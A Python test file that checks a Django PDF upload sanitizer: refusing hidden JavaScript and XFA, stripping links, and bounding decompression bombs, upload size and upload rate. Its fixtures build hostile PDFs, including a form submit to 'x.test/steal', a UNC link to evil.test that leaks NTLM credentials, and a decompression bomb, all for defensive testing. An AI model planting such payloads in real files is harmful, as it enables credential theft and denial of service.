"""Appendix item 7: every uploaded PDF is rebuilt clean by qpdf in a limited child process.

Active content hidden deeper than a byte search reaches (object streams, /Next
chains, XFA) is refused; links and annotations are dropped from the stored file;
a decompression bomb and a limit-breaking file cost the child, not the worker;
reading stops past UPLOAD_MAX_BYTES; uploads per user and hour are bounded.
"""

from __future__ import annotations

import hashlib
import io
import subprocess
import time
import zlib

import pikepdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import RequestFactory
from django.urls import reverse
from pikepdf import Array, Dictionary, Name, Pdf, String

from applications.models import Attachment
from applications.pdfcheck import PdfRefused, clean_pdf
from registry.uploads import OversizeUpload, UploadOverflowMiddleware

pytestmark = pytest.mark.rule("Appendix 7")


def _text_pdf(text: str = "Business plan 2026") -> Pdf:
    pdf = Pdf.new()
    pdf.add_blank_page(page_size=(300, 300))
    page = pdf.pages[0]
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    page.obj.Resources = Dictionary(Font=Dictionary(F1=font))
    page.obj.Contents = pdf.make_stream(f"BT /F1 12 Tf 20 150 Td ({text}) Tj ET".encode())
    return pdf


def _bytes(pdf: Pdf, *, object_streams: bool = False) -> bytes:
    out = io.BytesIO()
    mode = pikepdf.ObjectStreamMode.generate if object_streams else pikepdf.ObjectStreamMode.disable
    pdf.save(out, object_stream_mode=mode)
    return out.getvalue()


def _page_aa_javascript_in_object_stream() -> bytes:
    pdf = _text_pdf()
    # A direct dictionary nested in the page object, which lives in a compressed /ObjStm.
    pdf.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))
    data = _bytes(pdf, object_streams=True)
    assert b"/JavaScript" not in data  # compressed in the /ObjStm: a byte search cannot see it
    return data


def _goto_open_action_with_next_javascript() -> bytes:
    pdf = _text_pdf()
    script = Dictionary(S=Name.JavaScript, JS=String("this.submitForm('https://x.test')"))
    hop = Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]), Next=script)
    pdf.Root.OpenAction = pdf.make_indirect(
        Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]), Next=Array([hop]))
    )
    return _bytes(pdf, object_streams=True)


def _acroform_with_xfa() -> bytes:
    pdf = _text_pdf()
    xfa = pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script>x()</script></xdp:xdp>")
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=xfa)
    return _bytes(pdf, object_streams=True)


def _submit_form_in_annotation_object_stream() -> bytes:
    pdf = _text_pdf()
    submit = Dictionary(S=Name.SubmitForm, F=String("https://x.test/steal"))
    annot = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 10, 10]), A=submit))
    pdf.pages[0].obj.Annots = Array([annot])
    return _bytes(pdf, object_streams=True)


def _links() -> bytes:
    """Links a reader follows: a web address, a UNC GoToR (leaks NTLM credentials), a Launch-free outline."""
    pdf = _text_pdf()
    uri = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=Array([0, 0, 50, 50]),
        A=Dictionary(S=Name.URI, URI=String("https://evil.test/track")),
    )
    gotor = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=Array([50, 0, 100, 50]),
        A=Dictionary(S=Name.GoToR, F=String("\\\\evil.test\\share\\x.pdf"), D=Array([0, Name.Fit])),
    )
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(uri), pdf.make_indirect(gotor)])
    pdf.pages[0].obj.AA = Dictionary(C=Dictionary(S=Name.URI, URI=String("https://evil.test/close")))
    pdf.Root.OpenAction = Dictionary(S=Name.URI, URI=String("https://evil.test/open"))
    return _bytes(pdf, object_streams=True)


def _upload(data: bytes, name: str = "plan.pdf") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, "application/pdf")


@pytest.mark.parametrize(
    "make",
    [
        _page_aa_javascript_in_object_stream,
        _goto_open_action_with_next_javascript,
        _acroform_with_xfa,
        _submit_form_in_annotation_object_stream,
    ],
)
def test_nested_active_content_is_refused(make):
    with pytest.raises(PdfRefused) as refused:
        clean_pdf(_upload(make()))
    assert refused.value.code == "active_pdf"


def test_links_and_actions_are_dropped_and_the_text_kept(tmp_path):
    data = _links()
    clean = clean_pdf(_upload(data))
    stored = clean.file.read()
    assert clean.original_sha256 == hashlib.sha256(data).hexdigest()
    assert clean.sha256 == hashlib.sha256(stored).hexdigest() != clean.original_sha256
    with Pdf.open(io.BytesIO(stored)) as pdf:
        assert "/OpenAction" not in pdf.Root and "/AcroForm" not in pdf.Root and "/Names" not in pdf.Root
        page = pdf.pages[0].obj
        assert "/Annots" not in page and "/AA" not in page
        for obj in pdf.objects:
            if isinstance(obj, Dictionary):
                assert "/URI" not in obj and obj.get("/S") != "/GoToR"
    assert b"evil.test" not in stored
    path = tmp_path / "stored.pdf"
    path.write_bytes(stored)
    text = subprocess.run(["pdftotext", str(path), "-"], capture_output=True, check=True).stdout.decode()
    assert "Business plan 2026" in text


def _bomb(inflated: int) -> bytes:
    zeros = zlib.compress(b" " * inflated, 9)
    pdf = _text_pdf()
    pdf.pages[0].obj.Contents = pdf.make_stream(zeros)
    pdf.pages[0].obj.Contents.stream_dict.Filter = Name.FlateDecode
    # Write the compressed bytes as they are (no re-encoding on save).
    pdf.pages[0].obj.Contents.write(zeros, filter=Name.FlateDecode)
    return _bytes(pdf)


def test_decompression_bomb_is_refused_quickly_by_the_child():
    data = _bomb(260 * 1024 * 1024)  # ~250 KB inflating past the 200 MiB bound
    assert len(data) < 400_000
    started = time.monotonic()
    with pytest.raises(PdfRefused) as refused:
        clean_pdf(_upload(data))
    assert refused.value.code == "complex_pdf"
    assert time.monotonic() - started < 10


def test_inflation_under_the_bound_is_accepted():
    clean = clean_pdf(_upload(_bomb(8 * 1024 * 1024)))
    assert clean.size > 0


def test_the_child_runs_under_the_memory_limit(settings):
    settings.PDF_CHECK_MEMORY_BYTES = 32 * 1024 * 1024  # too small for the child to even start
    with pytest.raises(PdfRefused) as refused:
        clean_pdf(_upload(_bytes(_text_pdf())))
    assert refused.value.code == "complex_pdf"


def test_the_child_runs_under_the_cpu_limit(settings):
    settings.PDF_CHECK_CPU_SECONDS = 0  # SIGXCPU at once: the limit reaches the child
    with pytest.raises(PdfRefused) as refused:
        clean_pdf(_upload(_bytes(_text_pdf())))
    assert refused.value.code == "complex_pdf"
    settings.PDF_CHECK_CPU_SECONDS = 10
    assert clean_pdf(_upload(_bytes(_text_pdf()))).size > 0


@pytest.mark.django_db
def test_upload_stores_the_rebuilt_file_and_the_upload_hash(client, entrepreneur, region):
    from tests.applications.factories import complete_draft, reference_data

    draft = complete_draft(entrepreneur, region, reference_data(region))
    client.force_login(entrepreneur)
    data = _links()
    response = client.post(
        reverse("applications:attachment_upload", args=[draft.pk]), {"kind": "business_plan", "file": _upload(data)}
    )
    assert response.status_code == 302
    attachment = Attachment.objects.get(application=draft, kind="business_plan")
    assert attachment.original_sha256 == hashlib.sha256(data).hexdigest()
    downloaded = b"".join(client.get(reverse("applications:attachment_download", args=[attachment.pk])))
    assert b"evil.test" not in downloaded and hashlib.sha256(downloaded).hexdigest() == attachment.sha256


@pytest.mark.django_db
@pytest.mark.parametrize(("limit", "refused"), [(3, False), (2, True)])
def test_upload_rate_per_user_and_hour(client, entrepreneur, region, settings, limit, refused):
    from tests.applications.factories import complete_draft, reference_data

    settings.UPLOAD_RATE_PER_HOUR = limit
    settings.CACHES = {
        "default": {"BACKEND": "django.core.cache.backends.locmem.LocMemCache", "LOCATION": f"rate-{limit}"}
    }
    draft = complete_draft(entrepreneur, region, reference_data(region))
    client.force_login(entrepreneur)
    url = reverse("applications:attachment_upload", args=[draft.pk])
    codes = [
        client.post(url, {"kind": "business_plan", "file": _upload(_bytes(_text_pdf(f"v{i}")))}).status_code
        for i in range(3)
    ]
    assert codes[:2] == [302, 302]
    assert codes[2] == (400 if refused else 302)


def _multipart_request(size: int):
    body = (
        b'--B\r\nContent-Disposition: form-data; name="csrfmiddlewaretoken"\r\n\r\nx\r\n'
        b'--B\r\nContent-Disposition: form-data; name="file"; filename="big.pdf"\r\n'
        b"Content-Type: application/pdf\r\n\r\n" + b"%PDF-1.4\n" + b"0" * size + b"\r\n--B--\r\n"
    )
    request = RequestFactory().generic("POST", "/upload/", body, content_type="multipart/form-data; boundary=B")
    return request, len(body)


def test_reading_stops_past_the_upload_limit(settings):
    settings.UPLOAD_MAX_BYTES = 64 * 1024
    request, length = _multipart_request(4 * 1024 * 1024)
    UploadOverflowMiddleware(lambda r: None).process_view(request, None, (), {})
    upload = request.FILES["file"]
    assert isinstance(upload, OversizeUpload) and upload.size == settings.UPLOAD_MAX_BYTES + 1
    assert request.POST["csrfmiddlewaretoken"] == "x"
    # The parser stopped within a few chunks of the limit, not at the end of the 4 MB body.
    assert request._stream._pos < settings.UPLOAD_MAX_BYTES + 4 * 64 * 1024 < length


def test_a_file_within_the_limit_is_read_whole(settings):
    settings.UPLOAD_MAX_BYTES = 64 * 1024
    request, _ = _multipart_request(64 * 1024 - 20)
    UploadOverflowMiddleware(lambda r: None).process_view(request, None, (), {})
    assert not isinstance(request.FILES["file"], OversizeUpload)
    assert request.FILES["file"].size == 64 * 1024 - 20 + len(b"%PDF-1.4\n")


@pytest.mark.django_db
def test_oversize_upload_shows_the_size_message(client, entrepreneur, region, settings):
    from tests.applications.factories import complete_draft, reference_data

    settings.UPLOAD_MAX_BYTES = 64 * 1024
    draft = complete_draft(entrepreneur, region, reference_data(region))
    client.force_login(entrepreneur)
    response = client.post(
        reverse("applications:attachment_upload", args=[draft.pk]),
        {"kind": "business_plan", "file": _upload(b"%PDF-1.4\n" + b"0" * 300_000)},
    )
    assert response.status_code == 400
    assert "64,0" in response.content.decode() or "64.0" in response.content.decode()
